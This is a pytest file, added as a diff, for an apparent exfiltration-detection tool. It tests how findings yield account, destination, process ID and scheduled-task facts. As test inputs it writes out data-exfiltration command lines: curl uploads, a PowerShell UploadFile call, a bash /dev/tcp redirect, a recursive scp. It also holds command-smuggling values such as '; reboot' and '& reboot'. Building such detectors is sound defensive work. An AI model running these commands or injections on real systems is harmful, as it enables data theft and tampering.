@@ -1,0 +1,147 @@
+"""What a finding says of who, what, where and where to."""
+
+import pytest
+
+from exfilwatch.findings.finding import EvidenceEvent, Finding
+from exfilwatch_playbooks.response.facts import basename, facts
+
+from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
+
+
+def with_event(finding: Finding, category: str, **fields: object) -> Finding:
+    """The finding with one more event."""
+    event = finding.events[0].model_copy(update={"id": "other", "category": category, "fields": fields})
+    return finding.model_copy(update={"events": [*finding.events, EvidenceEvent.model_validate(event)]})
+
+
+@pytest.mark.parametrize(
+    ("host", "user", "account", "domain_account", "local_account"),
+    [
+        ("WS1", "CORP\\anna", "anna", "anna", None),
+        ("WS1", "anna@corp.local", "anna", "anna", None),
+        ("WS1.corp.local", "WS1\\anna", "anna", None, "anna"),
+        ("ws1", "ws1.corp.local/anna", "anna", None, "anna"),
+        ("WS1", "anna", "anna", None, None),
+        ("WS1", ".\\anna", "anna", None, None),
+        ("WS1", "AzureAD\\AnnaSmith", "AnnaSmith", None, None),
+        ("WS1", "S-1-5-21-1-2-3-1001", "S-1-5-21-1-2-3-1001", "S-1-5-21-1-2-3-1001", None),
+        ("WS1", "S-1-5-18", None, None, None),
+        ("WS1", "NT AUTHORITY\\SYSTEM", None, None, None),
+        ("WS1", "NT-AUTORITÄT\\Netzwerkdienst", "Netzwerkdienst", None, None),
+        ("WS1", "CORP\\WS1$", None, None, None),
+        ("WS1", "root", None, None, None),
+        ("WS1", "1000", None, None, None),
+        ("WS1", "CORP\\", None, None, None),
+        ("WS1", "-", None, None, None),
+        (None, "CORP\\anna", "anna", "anna", None),
+        (None, None, None, None, None),
+    ],
+)
+def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_account, local_account):
+    found = facts(make("a", host=host, user=user))
+    assert (found.account, found.domain_account, found.local_account) == (account, domain_account, local_account)
+
+
+@pytest.mark.parametrize(
+    ("command", "destination"),
+    [
+        ("curl -T a.zip https://files.example/in?x=1", "https://files.example/in?x=1"),
+        ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u"),
+        ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444"),
+        ("scp -r /data anna@files.example:/in", "anna@files.example:/in"),
+        ("curl ftp://a.example/ ftp://a.example/ sftp://b.example/", "ftp://a.example/, sftp://b.example/"),
+        ("tar cf a.tar /home", None),
+    ],
+)
+def test_the_destination_is_read_from_the_command_line(command, destination):
+    found = facts(make("a", CommandLine=command))
+    assert (found.destination, found.destination_ip, found.connected) == (destination, None, False)
+
+
+@pytest.mark.parametrize(
+    ("fields", "destination", "ip"),
+    [
+        ({"DestinationIp": "203.0.113.9", "DestinationPort": 443}, "203.0.113.9:443", "203.0.113.9"),
+        ({"DestinationIp": "2001:db8::1", "DestinationPort": 443}, "[2001:db8::1]:443", "2001:db8::1"),
+        (
+            {"DestinationIp": "203.0.113.9", "DestinationPort": "443", "DestinationHostname": "files.example"},
+            "files.example (203.0.113.9:443)",
+            "203.0.113.9",
+        ),
+        ({"DestinationIp": "127.0.0.1", "DestinationPort": 8443}, "127.0.0.1:8443", None),
+        ({"DestinationIp": "1.2.3.4; reboot"}, "1.2.3.4; reboot", None),
+        ({"DestinationIp": "-", "DestinationHostname": "-"}, None, None),
+    ],
+)
+def test_the_destination_is_read_from_a_connection(fields, destination, ip):
+    found = facts(with_event(make("a", CommandLine="7z a x.7z C:\\Users"), "network_connection", **fields))
+    assert (found.destination, found.destination_ip, found.connected) == (destination, ip, True)
+    assert found.program == "curl.exe"
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [(4242, "4242"), ("0x1F", "31"), ("0044", "44"), ("4 & reboot", None), ("٣", None), ("-", None), ("9" * 11, None)],
+)
+def test_a_process_id_is_a_decimal_number_or_nothing(value, expected):
+    assert facts(make("a", ProcessId=value)).process_id == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "task"),
+    [
+        ('schtasks /create /tn "Windows Update" /tr x', "Windows Update"),
+        ("schtasks /Create /SC HOURLY /TN \\Sync\\Docs /TR x", "\\Sync\\Docs"),
+        ("schtasks -create -tn x", "x"),
+        ("schtasks /create /tr x", None),
+        ("curl --tn x", None),
+    ],
+)
+def test_a_tasks_name_is_read_from_schtasks(command, task):
+    assert facts(make("a", CommandLine=command)).task == task
+
+
+def test_a_registered_task_says_its_name_and_where_it_sends():
+    finding = make("a").model_copy(
+        update={
+            "events": [make("a").events[0].model_copy(update={"category": "", "fields": {}})],
+            "fields": {"TaskName": "\\Collect", "TaskContent": "<Exec>curl -T a https://files.example/</Exec>"},
+        }
+    )
+    found = facts(finding)
+    assert (found.task, found.destination, found.program) == ("\\Collect", "https://files.example/", None)
+    assert found.content is not None
+
+
+@pytest.mark.parametrize(
+    ("image", "program", "path", "product"),
+    [
+        ("C:\\Windows\\System32\\curl.exe", "curl.exe", "C:\\Windows\\System32\\curl.exe", "windows"),
+        ("/usr/bin/curl", "curl", "/usr/bin/curl", ""),
+        ("curl.exe", "curl.exe", None, ""),
+        ("\\Device\\HarddiskVolume2\\curl.exe", "curl.exe", None, ""),
+        ("", None, None, ""),
+    ],
+)
+def test_only_a_whole_path_goes_into_commands(image, program, path, product):
+    finding = make("a", Image=image)
+    finding = finding.model_copy(update={"events": [finding.events[0].model_copy(update={"product": ""})]})
+    found = facts(finding)
+    assert (found.program, found.image_path, found.product) == (program, path, product)
+
+
+@pytest.mark.parametrize(("path", "name"), [("a\\b/c", "c"), ("C:\\", "C:\\"), ("x", "x"), ("", None), (None, None)])
+def test_basename(path, name):
+    assert basename(path) == name
+
+
+def test_bytes_sent_are_added_up():
+    finding = with_event(make("a"), "network_connection", orig_bytes="1000")
+    assert facts(with_event(finding, "network_connection", orig_bytes=24)).bytes_sent == 1024
+    assert facts(make("a")).bytes_sent is None
+
+
+def test_nothing_is_made_of_events_that_say_nothing():
+    finding = make("a", None, host=None, user=None, Image=None, CommandLine=None).model_copy(update={"fields": {}})
+    found = facts(finding)
+    assert (found.host, found.program, found.command_line, found.destination, found.task) == (None,) * 5
